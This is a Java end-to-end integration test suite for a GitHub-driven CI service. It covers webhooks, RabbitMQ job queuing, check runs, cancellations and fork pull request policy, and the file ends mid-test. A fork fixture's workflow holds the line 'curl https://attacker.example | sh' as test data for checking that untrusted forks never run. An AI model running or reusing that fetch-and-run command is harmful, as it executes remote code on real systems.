package dev.solstice.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.rabbitmq.client.Channel;
import com.rabbitmq.client.GetResponse;
import dev.solstice.integration.testing.ServiceHarness;
import dev.solstice.integration.testing.TestBroker;
import dev.solstice.integration.webhook.SignatureVerifier;
import dev.solstice.jobrequest.JobCancel;
import dev.solstice.jobrequest.JobCodec;
import dev.solstice.jobrequest.JobRequest;
import dev.solstice.jobrequest.JobSchemas;
import dev.solstice.jobrequest.amqp.QueueTopology;
import dev.solstice.simulator.github.GitHubSimulator;
import dev.solstice.simulator.github.RecordedWebhooks;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.WebClient;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The product end to end, over the real RabbitMQ, the GitHub simulator (real HTTP, JWT and token
 * checks, request bodies validated against GitHub's OpenAPI description) and an S3 server: webhook
 * → JobRequests → check runs → orchestrator stub → JobResults → completed check runs, logs in S3.
 */
class EndToEndIT {

  private static Vertx vertx;
  private static Path workDir;
  private final ObjectMapper json = new ObjectMapper();
  private SandboxStack stack;
  private TestBroker broker;
  private WebClient http;

  @BeforeAll
  static void vertx() throws Exception {
    vertx = Vertx.vertx();
    workDir = Files.createTempDirectory("solstice-e2e");
  }

  @AfterAll
  static void close() {
    vertx.close();
  }

  @BeforeEach
  void start() throws Exception {
    Map<String, String> env =
        ServiceHarness.isolatedEnv(Map.of("RUNS_ON_DEFAULT", "fallback-label"));
    stack = SandboxStack.start(vertx, env, workDir);
    broker = new TestBroker();
    broker.trackAll(stack.config());
    await().atMost(Duration.ofSeconds(20)).until(stack.service()::isReady);
    http = WebClient.create(vertx);
    requestTap = tap(stack.config().jobs().routingKey());
    cancelTap = tap(QueueTopology.cancelsOf(stack.config().jobs()).routingKey());
  }

  private String requestTap;
  private String cancelTap;

  /** A queue that receives a copy of every message published on the jobs exchange with the key. */
  private String tap(String routingKey) throws Exception {
    String q = broker.channel().queueDeclare("", false, true, true, null).getQueue();
    broker.channel().queueBind(q, stack.config().jobs().exchange(), routingKey);
    return q;
  }

  /** Every JobRequest published so far (each checked against the schema). */
  private List<JobRequest> published() throws Exception {
    List<JobRequest> all = new ArrayList<>(tapped);
    for (GetResponse r = broker.channel().basicGet(requestTap, true);
        r != null;
        r = broker.channel().basicGet(requestTap, true)) {
      assertThat(JobSchemas.validateRequest(new String(r.getBody(), StandardCharsets.UTF_8)))
          .isEmpty();
      JobRequest job = JobCodec.decodeRequest(r.getBody());
      tapped.add(job);
      all.add(job);
    }
    return all;
  }

  private final List<JobRequest> tapped = new ArrayList<>();
  private final List<JobCancel> cancels = new ArrayList<>();

  /** Every jobcancel.v1 published so far (each checked against the schema). */
  private List<JobCancel> cancelsPublished() throws Exception {
    for (GetResponse r = broker.channel().basicGet(cancelTap, true);
        r != null;
        r = broker.channel().basicGet(cancelTap, true)) {
      assertThat(JobSchemas.validateCancel(new String(r.getBody(), StandardCharsets.UTF_8)))
          .isEmpty();
      cancels.add(JobCodec.decodeCancel(r.getBody()));
    }
    return List.copyOf(cancels);
  }

  @AfterEach
  void stop() throws Exception {
    http.close();
    stack.close();
    broker.close();
  }

  private GitHubSimulator github() {
    return stack.github();
  }

  private int post(String event, byte[] body) throws Exception {
    return http.post(stack.service().httpPort(), "127.0.0.1", "/webhooks/github")
        .putHeader("Content-Type", "application/json")
        .putHeader("X-GitHub-Event", event)
        .putHeader("X-GitHub-Delivery", UUID.randomUUID().toString())
        .putHeader("X-Hub-Signature-256", SignatureVerifier.sign(ServiceHarness.SECRET, body))
        .sendBuffer(Buffer.buffer(body))
        .toCompletionStage()
        .toCompletableFuture()
        .get()
        .statusCode();
  }

  /** Reads the queued JobRequests without taking them: they go back when the channel closes. */
  private List<JobRequest> peekJobs(int expected) throws Exception {
    String queue = stack.config().jobs().queue();
    await().atMost(Duration.ofSeconds(20)).until(() -> broker.count(queue) >= expected);
    List<JobRequest> jobs = new ArrayList<>();
    try (Channel ch = broker.channel().getConnection().createChannel()) {
      for (GetResponse r = ch.basicGet(queue, false); r != null; r = ch.basicGet(queue, false)) {
        assertThat(JobSchemas.validateRequest(new String(r.getBody(), StandardCharsets.UTF_8)))
            .isEmpty();
        jobs.add(JobCodec.decodeRequest(r.getBody()));
      }
    }
    return jobs;
  }

  private List<JsonObject> runs(String sha) {
    return github().checkRuns(SandboxStack.REPO).stream()
        .filter(r -> sha.equals(r.getString("head_sha")))
        .toList();
  }

  private JsonObject run(String sha, String name) {
    return runs(sha).stream()
        .filter(r -> name.equals(r.getString("name")))
        .findFirst()
        .orElseThrow();
  }

  @Test
  void pushOfAThreeJobWorkflowQueuesThreeJobsAndCompletesThreeCheckRuns() throws Exception {
    assertThat(post("push", RecordedWebhooks.payload("push.json"))).isEqualTo(202);

    // "test" needs "build": only lint and build are queued at first; test's run waits, queued.
    List<JobRequest> jobs = peekJobs(2);
    assertThat(jobs).hasSize(2);
    Map<String, JobRequest> byId =
        jobs.stream().collect(Collectors.toMap(JobRequest::workflowJobId, j -> j));
    assertThat(byId.keySet()).containsExactlyInAnyOrder("lint", "build");
    assertThat(byId.get("lint").runsOn()).isEqualTo("small");
    assertThat(byId.get("build").runsOn()).isEqualTo("linux-x64");
    assertThat(byId.get("build").script()).containsExactly("echo building", "echo built");
    assertThat(byId.get("build").timeoutSeconds()).isEqualTo(600);
    for (JobRequest job : jobs) {
      assertThat(job.commitSha()).isEqualTo(SandboxStack.PUSH_SHA);
      assertThat(job.workflowPath()).isEqualTo(".solstice/workflow.kdl");
      assertThat(job.repository()).isEqualTo(SandboxStack.REPO);
      assertThat(job.installationId()).isEqualTo(SandboxStack.INSTALLATION);
      assertThat(job.checkRunId()).isNotNull();
      // The push's context (issue 17): who pushed, the previous head, the payload's files.
      assertThat(job.sender()).isEqualTo("Codertocat");
      assertThat(job.before()).isEqualTo("0000000000000000000000000000000000000000");
      assertThat(job.changedFiles()).containsExactly("README.md");
      assertThat(job.changedFilesTruncated()).isFalse();
    }
    List<JsonObject> queued = runs(SandboxStack.PUSH_SHA);
    assertThat(queued)
        .hasSize(3)
        .allSatisfy(r -> assertThat(r.getString("status")).isEqualTo("queued"));
    assertThat(
            run(SandboxStack.PUSH_SHA, "Solstice CI / test")
                .getJsonObject("output")
                .getString("summary"))
        .contains("Waiting for `build` to succeed");
    await()
        .during(Duration.ofMillis(300))
        .atMost(Duration.ofSeconds(2))
        .until(() -> broker.count(stack.config().jobs().queue()) == 2);

    stack.startOrchestrator();

    await()
        .atMost(Duration.ofSeconds(30))
        .until(
            () ->
                runs(SandboxStack.PUSH_SHA).stream()
                    .allMatch(r -> "completed".equals(r.getString("status"))));
    assertThat(run(SandboxStack.PUSH_SHA, "Solstice CI / lint").getString("conclusion"))
        .isEqualTo("success");
    assertThat(run(SandboxStack.PUSH_SHA, "Solstice CI / build").getString("conclusion"))
        .isEqualTo("success");
    JsonObject test = run(SandboxStack.PUSH_SHA, "Solstice CI / test");
    assertThat(test.getString("conclusion")).isEqualTo("failure");

    // Exactly three JobRequests over the whole flow; test's only after build succeeded.
    List<JobRequest> all = published();
    assertThat(all)
        .extracting(JobRequest::workflowJobId)
        .containsExactlyInAnyOrder("lint", "build", "test");
    JobRequest testJob =
        all.stream().filter(j -> "test".equals(j.workflowJobId())).findFirst().orElseThrow();
    assertThat(testJob.needs()).containsExactly("build");
    assertThat(testJob.sender()).as("kept while it waited for build").isEqualTo("Codertocat");
    assertThat(testJob.changedFiles()).containsExactly("README.md");
    assertThat(testJob.env()).containsEntry("CI", "true");
    assertThat(testJob.checkRunId()).isEqualTo(test.getLong("id"));
    assertThat(queued)
        .extracting(r -> r.getString("external_id"))
        .containsExactlyInAnyOrderElementsOf(
            all.stream().map(j -> j.requestId().toString()).toList());

    String details = test.getString("details_url");
    assertThat(details)
        .isEqualTo(
            stack.s3().endpoint()
                + "/"
                + SandboxStack.LOG_BUCKET
                + "/logs/"
                + testJob.requestId()
                + ".log");
    assertThat(test.getJsonObject("output").getString("text")).contains("echo testing");
    assertThat(stack.s3().readObjectAt(details)).contains("echo testing");
    assertThat(
            stack
                .s3()
                .readObjectAt(
                    run(SandboxStack.PUSH_SHA, "Solstice CI / build").getString("details_url")))
        .contains("echo building")
        .contains("echo built");

    // The GitHub bill of one push with three jobs: one token, one contents read, one create per
    // job,
    // one update per reported status (started, completed).
    assertThat(github().mints()).isEqualTo(1);
    assertThat(github().count("repos/get-content")).isEqualTo(1);
    assertThat(github().count("checks/create")).isEqualTo(3);
    assertThat(github().count("checks/update")).isEqualTo(6);
    assertThat(github().count("checks/list-for-ref")).isZero();
    assertThat(github().schemaViolations()).isEmpty();
  }

  @Test
  void pullRequestSynchronizeRunsTheWorkflowOfTheHeadSha() throws Exception {
    stack.startOrchestrator();
    assertThat(post("pull_request", RecordedWebhooks.payload("pull_request.synchronize.json")))
        .isEqualTo(202);

    await()
        .atMost(Duration.ofSeconds(30))
        .until(
            () ->
                runs(SandboxStack.PR_SHA).size() == 3
                    && runs(SandboxStack.PR_SHA).stream()
                        .allMatch(r -> "completed".equals(r.getString("status"))));
    assertThat(runs(SandboxStack.PR_SHA))
        .extracting(r -> r.getString("name"))
        .containsExactlyInAnyOrder(
            "Solstice CI / lint", "Solstice CI / build", "Solstice CI / test");
    assertThat(runs(SandboxStack.PUSH_SHA)).isEmpty();
    assertThat(github().schemaViolations()).isEmpty();
  }

  @Test
  void invalidWorkflowGivesOneFailedCheckRunAnnotatedAtTheLineAndNoJobs() throws Exception {
    String sha = "1111111111111111111111111111111111111111";
    github()
        .putFile(
            SandboxStack.REPO,
            sha,
            ".solstice/workflow.kdl",
            "job \"build\" {\n    script \"make\"\n}\njob \"test\" {\n    script \"make test\"\n    needs \"biuld\"\n}\n");
    ObjectNode push = (ObjectNode) json.readTree(RecordedWebhooks.payload("push.json"));
    push.put("after", sha);

    assertThat(post("push", json.writeValueAsBytes(push))).isEqualTo(202);

    await().atMost(Duration.ofSeconds(20)).until(() -> runs(sha).size() == 1);
    JsonObject run = runs(sha).get(0);
    assertThat(run.getString("name")).isEqualTo("Solstice CI / workflow");
    assertThat(run.getString("status")).isEqualTo("completed");
    assertThat(run.getString("conclusion")).isEqualTo("failure");
    assertThat(run.getJsonObject("output").getString("summary")).contains("needs \"biuld\"");
    List<JsonObject> annotations = github().annotations(run.getLong("id"));
    assertThat(annotations).hasSize(1);
    assertThat(annotations.get(0).getString("path")).isEqualTo(".solstice/workflow.kdl");
    assertThat(annotations.get(0).getInteger("start_line")).isEqualTo(6);
    assertThat(annotations.get(0).getString("annotation_level")).isEqualTo("failure");
    await()
        .during(Duration.ofMillis(500))
        .atMost(Duration.ofSeconds(2))
        .until(() -> broker.count(stack.config().jobs().queue()) == 0);
  }

  @Test
  void rerunButtonsEnqueueTheSameCommitAgainWithNewIds() throws Exception {
    assertThat(post("push", RecordedWebhooks.payload("push.json"))).isEqualTo(202);
    Set<UUID> first = peekJobs(2).stream().map(JobRequest::requestId).collect(Collectors.toSet());
    broker.drain(stack.config().jobs().queue());

    ObjectNode suite =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("check_suite.rerequested.json"));
    ((ObjectNode) suite.get("check_suite")).put("head_sha", SandboxStack.PUSH_SHA);
    ((ObjectNode) suite.at("/check_suite/app")).put("id", github().app().id());
    ((ObjectNode) suite.get("installation")).put("id", SandboxStack.INSTALLATION);
    assertThat(post("check_suite", json.writeValueAsBytes(suite))).isEqualTo(202);

    List<JobRequest> again = peekJobs(2); // test waits for build again
    assertThat(again)
        .hasSize(2)
        .allSatisfy(
            j -> {
              assertThat(j.commitSha()).isEqualTo(SandboxStack.PUSH_SHA);
              assertThat(first).doesNotContain(j.requestId());
            });
    assertThat(runs(SandboxStack.PUSH_SHA)).hasSize(6);
    broker.drain(stack.config().jobs().queue());

    ObjectNode single =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("check_run.rerequested.json"));
    ObjectNode checkRun = (ObjectNode) single.get("check_run");
    checkRun.put("head_sha", SandboxStack.PUSH_SHA);
    checkRun.put("name", "Solstice CI / build");
    ((ObjectNode) checkRun.get("app")).put("id", github().app().id());
    ((ObjectNode) single.get("repository")).put("full_name", SandboxStack.REPO);
    ((ObjectNode) single.get("repository"))
        .put("clone_url", "https://github.com/Codertocat/Hello-World.git");
    ((ObjectNode) single.get("installation")).put("id", SandboxStack.INSTALLATION);
    assertThat(post("check_run", json.writeValueAsBytes(single))).isEqualTo(202);

    List<JobRequest> one = peekJobs(1);
    assertThat(one)
        .singleElement()
        .satisfies(
            j -> {
              assertThat(j.workflowJobId()).isEqualTo("build");
              assertThat(j.commitSha()).isEqualTo(SandboxStack.PUSH_SHA);
            });

    // A Re-run of another App's suite is not ours to run.
    ((ObjectNode) suite.at("/check_suite/app")).put("id", 99);
    broker.drain(stack.config().jobs().queue());
    assertThat(post("check_suite", json.writeValueAsBytes(suite))).isEqualTo(202);
    await()
        .atMost(Duration.ofSeconds(10))
        .until(
            () ->
                stack
                        .registry()
                        .find("solstice_webhooks_processed")
                        .tag("event", "check_suite")
                        .counters()
                        .stream()
                        .mapToDouble(c -> c.count())
                        .sum()
                    >= 2);
    assertThat(broker.count(stack.config().jobs().queue())).isZero();
  }

  @Test
  void skipMarkerInTheHeadCommitQueuesNothingAndCompletesTheChecksAsSkipped() throws Exception {
    ObjectNode push = (ObjectNode) json.readTree(RecordedWebhooks.payload("push.json"));
    ((ObjectNode) push.get("head_commit")).put("message", "Fix a typo in the README [skip ci]");

    assertThat(post("push", json.writeValueAsBytes(push))).isEqualTo(202);

    await().atMost(Duration.ofSeconds(20)).until(() -> runs(SandboxStack.PUSH_SHA).size() == 3);
    assertThat(runs(SandboxStack.PUSH_SHA))
        .allSatisfy(
            r -> {
              assertThat(r.getString("status")).isEqualTo("completed");
              assertThat(r.getString("conclusion")).isEqualTo("skipped");
              assertThat(r.getJsonObject("output").getString("summary")).contains("[skip ci]");
            });
    assertThat(runs(SandboxStack.PUSH_SHA))
        .extracting(r -> r.getString("name"))
        .containsExactlyInAnyOrder(
            "Solstice CI / lint", "Solstice CI / build", "Solstice CI / test");
    await()
        .during(Duration.ofMillis(500))
        .atMost(Duration.ofSeconds(2))
        .until(() -> broker.count(stack.config().jobs().queue()) == 0);
    assertThat(published()).isEmpty();
    // One contents read (to name the checks), one look for existing runs, one create per job.
    assertThat(github().count("repos/get-content")).isEqualTo(1);
    assertThat(github().count("checks/list-for-ref")).isEqualTo(1);
    assertThat(github().count("checks/create")).isEqualTo(3);
    assertThat(github().schemaViolations()).isEmpty();
  }

  /**
   * A contributor's pull request from the fork Forker/Hello-World at {@code forkSha}: the fork
   * rewrote the workflow (job "evil"); the base branch's (job "base-check") is what counts.
   */
  private ObjectNode contributorsForkPullRequest(String forkSha) throws Exception {
    ObjectNode pr =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("pull_request.synchronize.json"));
    ObjectNode pull = (ObjectNode) pr.get("pull_request");
    String baseSha = pull.at("/base/sha").asText();
    ObjectNode head = (ObjectNode) pull.get("head");
    head.put("sha", forkSha);
    ((ObjectNode) head.get("repo"))
        .put("full_name", "Forker/Hello-World")
        .put("clone_url", "https://github.com/Forker/Hello-World.git");
    pull.put("author_association", "CONTRIBUTOR");
    ((ObjectNode) pull.get("user")).put("login", "forker");
    github()
        .putFile(
            SandboxStack.REPO,
            forkSha,
            ".solstice/workflow.kdl",
            "job \"evil\" {\n    script \"curl https://attacker.example | sh\"\n}\n");
    github()
        .putFile(
            SandboxStack.REPO,
            baseSha,
            ".solstice/workflow.kdl",
            "job \"base-check\" {\n    script \"make check\"\n}\n");
    return pr;
  }

  @Test
  void forkPullRequestOfAContributorIsHeldWithANeutralCheckFromTheBaseWorkflow() throws Exception {
    String forkSha = "2222222222222222222222222222222222222222";
    ObjectNode pr = contributorsForkPullRequest(forkSha);
    String baseSha = pr.at("/pull_request/base/sha").asText();

    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);

    await().atMost(Duration.ofSeconds(20)).until(() -> runs(forkSha).size() == 1);
    JsonObject held = runs(forkSha).get(0);
    assertThat(held.getString("name")).isEqualTo("Solstice CI / base-check");
    assertThat(held.getString("status")).isEqualTo("completed");
    assertThat(held.getString("conclusion")).isEqualTo("neutral");
    assertThat(held.getJsonObject("output").getString("summary"))
        .contains("Forker/Hello-World")
        .contains("CONTRIBUTOR")
        .contains("FORK_PR_POLICY=members");
    await()
        .during(Duration.ofMillis(500))
        .atMost(Duration.ofSeconds(2))
        .until(() -> broker.count(stack.config().jobs().queue()) == 0);
    assertThat(published()).isEmpty();
    // The workflow was read at the base commit, never at the fork's.
    assertThat(github().calls(c -> "repos/get-content".equals(c.operation())))
        .singleElement()
        .satisfies(c -> assertThat(c.query()).contains("ref=" + baseSha));
    assertThat(github().schemaViolations()).isEmpty();
  }

  @Test
  void rerunOfAHeldForkPullRequestStaysHeldAndNeverRunsTheForksWorkflow() throws Exception {
    String forkSha = "3333333333333333333333333333333333333333";
    ObjectNode pr = contributorsForkPullRequest(forkSha);
    ObjectNode pull = (ObjectNode) pr.get("pull_request");
    String baseSha = pull.at("/base/sha").asText();
    github()
        .trust()
        .putPullRequest(
            SandboxStack.REPO,
            pull.get("number").asInt(),
            forkSha,
            "Forker/Hello-World",
            pull.at("/base/ref").asText(),
            baseSha,
            "forker",
            "CONTRIBUTOR");
    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
    await().atMost(Duration.ofSeconds(20)).until(() -> runs(forkSha).size() == 1);

    // Re-run all jobs on the held checks: GitHub's check_suite for a fork's head has head_branch
    // null and no pull_requests.
    ObjectNode suite =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("check_suite.rerequested.json"));
    ObjectNode checkSuite = (ObjectNode) suite.get("check_suite");
    checkSuite.put("head_sha", forkSha).putNull("head_branch");
    checkSuite.putArray("pull_requests");
    ((ObjectNode) checkSuite.get("app")).put("id", github().app().id());
    ((ObjectNode) suite.get("repository")).put("full_name", SandboxStack.REPO);
    ((ObjectNode) suite.get("installation")).put("id", SandboxStack.INSTALLATION);
    assertThat(post("check_suite", json.writeValueAsBytes(suite))).isEqualTo(202);

    await()
        .atMost(Duration.ofSeconds(20))
        .until(
            () ->
                github().count("repos/list-pull-requests-associated-with-commit") == 1
                    && github().calls(c -> "repos/get-content".equals(c.operation())).size() == 2);
    await()
        .during(Duration.ofMillis(500))
        .atMost(Duration.ofSeconds(2))
        .until(() -> broker.count(stack.config().jobs().queue()) == 0);
    assertThat(published()).isEmpty();
    assertThat(github().calls(c -> "repos/get-content".equals(c.operation())))
        .allSatisfy(c -> assertThat(c.query()).contains("ref=" + baseSha));
    assertThat(runs(forkSha))
        .singleElement()
        .satisfies(r -> assertThat(r.getString("conclusion")).isEqualTo("neutral"));
    assertThat(github().schemaViolations()).isEmpty();
  }

  @Test
  void dependentJobIsSkippedWhenTheJobItNeedsFails() throws Exception {
    String sha = "3333333333333333333333333333333333333333";
    github()
        .putFile(
            SandboxStack.REPO,
            sha,
            ".solstice/workflow.kdl",
            """
        job "build" {
            env SOLSTICE_STUB_OUTCOME="failure"
            script "echo building"
        }
        job "test" {
            needs "build"
            script "echo testing"
        }
        job "deploy" {
            needs "test"
            script "echo deploying"
        }
        job "lint" {
            script "echo linting"
        }
        """);
    ObjectNode push = (ObjectNode) json.readTree(RecordedWebhooks.payload("push.json"));
    push.put("after", sha);
    stack.startOrchestrator();

    assertThat(post("push", json.writeValueAsBytes(push))).isEqualTo(202);

    await()
        .atMost(Duration.ofSeconds(30))
        .until(
            () ->
                runs(sha).size() == 4
                    && runs(sha).stream().allMatch(r -> "completed".equals(r.getString("status"))));
    assertThat(run(sha, "Solstice CI / build").getString("conclusion")).isEqualTo("failure");
    assertThat(run(sha, "Solstice CI / lint").getString("conclusion")).isEqualTo("success");
    for (String skipped : List.of("test", "deploy")) {
      JsonObject r = run(sha, "Solstice CI / " + skipped);
      assertThat(r.getString("conclusion")).isEqualTo("skipped");
      assertThat(r.getJsonObject("output").getString("summary"))
          .contains("`build`")
          .contains("failure");
    }
    await()
        .during(Duration.ofMillis(500))
        .atMost(Duration.ofSeconds(2))
        .until(() -> published().size() == 2);
    assertThat(published())
        .extracting(JobRequest::workflowJobId)
        .containsExactlyInAnyOrder("build", "lint");
    assertThat(github().schemaViolations()).isEmpty();
  }

  @Test
  void newPushToAPullRequestCancelsTheQueuedJobsOfThePreviousHead() throws Exception {
    String first = "4444444444444444444444444444444444444444";
    String second = "5555555555555555555555555555555555555555";
    String slow =
        SandboxStack.DEMO_WORKFLOW.replace(
            "script \"echo linting\"",
            "script \"echo linting\"\n        env SOLSTICE_STUB_DURATION_MS=\"1500\"");
    github().putFile(SandboxStack.REPO, first, ".solstice/workflow.kdl", slow);
    github().putFile(SandboxStack.REPO, second, ".solstice/workflow.kdl", slow);
    ObjectNode pr =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("pull_request.synchronize.json"));
    ((ObjectNode) pr.at("/pull_request/head")).put("sha", first);

    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
    await()
        .atMost(Duration.ofSeconds(20))
        .until(() -> broker.count(stack.config().jobs().queue()) == 2 && runs(first).size() == 3);

    ((ObjectNode) pr.at("/pull_request/head")).put("sha", second);
    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);

    // The first head's jobs had not started: all three runs cancelled, a cancel for each queued
    // one.
    await()
        .atMost(Duration.ofSeconds(20))
        .until(
            () ->
                runs(first).stream().allMatch(r -> "cancelled".equals(r.getString("conclusion"))));
    assertThat(runs(first).get(0).getJsonObject("output").getString("summary"))
        .contains("Superseded");
    Set<String> firstQueued =
        published().stream()
            .filter(j -> first.equals(j.commitSha()))
            .map(j -> j.requestId().toString())
            .collect(Collectors.toSet());
    assertThat(firstQueued).hasSize(2);
    await().atMost(Duration.ofSeconds(5)).until(() -> cancelsPublished().size() == 2);
    assertThat(cancelsPublished())
        .allSatisfy(
            c -> {
              assertThat(c.reason()).isEqualTo("superseded");
              assertThat(c.supersededBy()).isEqualTo(second);
            })
        .extracting(c -> c.requestId().toString())
        .containsExactlyInAnyOrderElementsOf(firstQueued);

    // The orchestrator honours the cancels and runs the second head.
    stack.startOrchestrator();
    await()
        .atMost(Duration.ofSeconds(30))
        .until(
            () ->
                runs(second).size() == 3
                    && runs(second).stream()
                        .allMatch(r -> "completed".equals(r.getString("status"))));
    assertThat(run(second, "Solstice CI / build").getString("conclusion")).isEqualTo("success");
    assertThat(run(second, "Solstice CI / test").getString("conclusion")).isEqualTo("failure");
    await()
        .atMost(Duration.ofSeconds(10))
        .until(() -> broker.count(stack.config().jobs().queue()) == 0);
    assertThat(runs(first))
        .allSatisfy(r -> assertThat(r.getString("conclusion")).isEqualTo("cancelled"));
    // Nothing of the first head ran: its test was never queued, and no job of it reported a start.
    assertThat(published().stream().filter(j -> first.equals(j.commitSha()))).hasSize(2);
    assertThat(runs(first)).noneMatch(r -> "in_progress".equals(r.getString("status")));
    assertThat(cancelsPublished()).hasSize(2);
    assertThat(github().schemaViolations()).isEmpty();
  }

  @Test
  void closingAPullRequestStopsItsRunningJobAndCancelsTheWaitingOne() throws Exception {
    String head = "8888888888888888888888888888888888888888";
    String workflow =
        """
        job "build" {
            env SOLSTICE_STUB_DURATION_MS="120000"
            script "echo building"
        }
        job "test" {
            needs "build"
            script "echo testing"
        }
        """;
    github().putFile(SandboxStack.REPO, head, ".solstice/workflow.kdl", workflow);
    stack.startOrchestrator();
    ObjectNode pr =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("pull_request.synchronize.json"));
    ((ObjectNode) pr.at("/pull_request/head")).put("sha", head);
    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
    await()
        .atMost(Duration.ofSeconds(20))
        .until(
            () ->
                runs(head).size() == 2
                    && "in_progress".equals(run(head, "Solstice CI / build").getString("status")));

    ObjectNode closed =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("pull_request.closed.json"));
    ((ObjectNode) closed.at("/pull_request/head")).put("sha", head);
    long before = System.nanoTime();
    assertThat(post("pull_request", json.writeValueAsBytes(closed))).isEqualTo(202);

    // The running build is stopped by the stub (its own cancelled result, not the two minutes it
    // would run); the test waiting for it never runs.
    await()
        .atMost(Duration.ofSeconds(20))
        .until(
            () ->
                run(head, "Solstice CI / build")
                    .getJsonObject("output")
                    .getString("summary")
                    .contains("Cancelled while it ran (closed)"));
    assertThat(Duration.ofNanos(System.nanoTime() - before)).isLessThan(Duration.ofSeconds(60));
    assertThat(runs(head))
        .allSatisfy(
            r -> {
              assertThat(r.getString("status")).isEqualTo("completed");
              assertThat(r.getString("conclusion")).isEqualTo("cancelled");
            });
    assertThat(run(head, "Solstice CI / test").getJsonObject("output").getString("summary"))
        .contains("The pull request was closed");
    assertThat(cancelsPublished())
        .singleElement()
        .satisfies(
            c -> {
              assertThat(c.reason()).isEqualTo(JobCancel.CLOSED);
              assertThat(c.workflowJobId()).isEqualTo("build");
            });
    assertThat(published().stream().filter(j -> head.equals(j.commitSha())))
        .extracting(JobRequest::workflowJobId)
        .containsExactly("build");
    assertThat(github().schemaViolations()).isEmpty();
  }

  @Test
  void pathFiltersReadEveryPageOfThePullRequestsFiles() throws Exception {
    String docsOnly = "6666666666666666666666666666666666666666";
    String withCode = "7777777777777777777777777777777777777777";
    String workflow =
        """
        on {
            pull_request {
                branches "master"
                paths "src/**"
            }
        }
        job "build" {
            script "echo building"
        }
        """;
    github().putFile(SandboxStack.REPO, docsOnly, ".solstice/workflow.kdl", workflow);
    github().putFile(SandboxStack.REPO, withCode, ".solstice/workflow.kdl", workflow);
    List<String> files = new ArrayList<>();
    for (int i = 0; i < 250; i++) {
      files.add("docs/page-" + i + ".md");
    }
    github().putPullRequestFiles(SandboxStack.REPO, 2, files);
    ObjectNode pr =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("pull_request.synchronize.json"));
    ((ObjectNode) pr.at("/pull_request/head")).put("sha", docsOnly);

    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
    await().atMost(Duration.ofSeconds(20)).until(() -> runs(docsOnly).size() == 1);
    JsonObject skipped = runs(docsOnly).get(0);
    assertThat(skipped.getString("conclusion")).isEqualTo("skipped");
    assertThat(skipped.getJsonObject("output").getString("summary"))
        .contains("No changed file matches `paths`");
    assertThat(github().count("pulls/list-files")).isEqualTo(3); // 100 + 100 + 50

    // The only code change is on the last page: it runs.
    files.set(249, "src/main/App.java");
    github().putPullRequestFiles(SandboxStack.REPO, 2, files);
    ((ObjectNode) pr.at("/pull_request/head")).put("sha", withCode);
    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
    List<JobRequest> jobs = peekJobs(1);
    assertThat(jobs)
        .singleElement()
        .satisfies(
            j -> {
              assertThat(j.commitSha()).isEqualTo(withCode);
              assertThat(j.workflowJobId()).isEqualTo("build");
            });
    assertThat(run(withCode, "Solstice CI / build").getString("status")).isEqualTo("queued");
    assertThat(github().count("pulls/list-files")).isEqualTo(6);
    assertThat(github().schemaViolations()).isEmpty();
  }

  @Test
  void pushToABranchTheWorkflowDoesNotSelectCompletesItsChecksAsSkipped() throws Exception {
    String sha = "8888888888888888888888888888888888888888";
    github()
        .putFile(
            SandboxStack.REPO,
            sha,
            ".solstice/workflow.kdl",
            """
        on {
            push {
                branches "main" "release/**"
            }
        }
        job "build" {
            script "echo building"
        }
        """);
    ObjectNode push =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("push.json")); // to refs/heads/master
    push.put("after", sha);

    assertThat(post("push", json.writeValueAsBytes(push))).isEqualTo(202);

    await().atMost(Duration.ofSeconds(20)).until(() -> runs(sha).size() == 1);
    assertThat(runs(sha).get(0).getString("conclusion")).isEqualTo("skipped");
    assertThat(runs(sha).get(0).getJsonObject("output").getString("summary")).contains("`master`");
    assertThat(published()).isEmpty();
  }

  @Test
  void deniedRepositoryGetsNoJobsAndNoGitHubCall() throws Exception {
    stack.close();
    Map<String, String> env = ServiceHarness.isolatedEnv(Map.of("REPO_DENYLIST", "codertocat/*"));
    stack = SandboxStack.start(vertx, env, workDir);
    broker.trackAll(stack.config());
    await().atMost(Duration.ofSeconds(20)).until(stack.service()::isReady);

    assertThat(post("push", RecordedWebhooks.payload("push.json"))).isEqualTo(202);

    await()
        .atMost(Duration.ofSeconds(10))
        .until(
            () ->
                stack.registry().find("solstice_webhooks_processed").counters().stream()
                        .mapToDouble(c -> c.count())
                        .sum()
                    >= 1);
    // Not even a token: nothing about the repository was asked of GitHub.
    assertThat(
            github()
                .calls(
                    c ->
                        c.path().startsWith("/repos/")
                            || c.path().startsWith("/app/installations")))
        .isEmpty();
    assertThat(broker.count(stack.config().jobs().queue())).isZero();
  }

  @Test
  void pushBeyondThePayloadsTwentyCommitsTakesItsFilesFromTheCompareApi() throws Exception {
    String sha = "9999999999999999999999999999999999999999";
    String before = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    github()
        .putFile(
            SandboxStack.REPO,
            sha,
            ".solstice/workflow.kdl",
            """
        on {
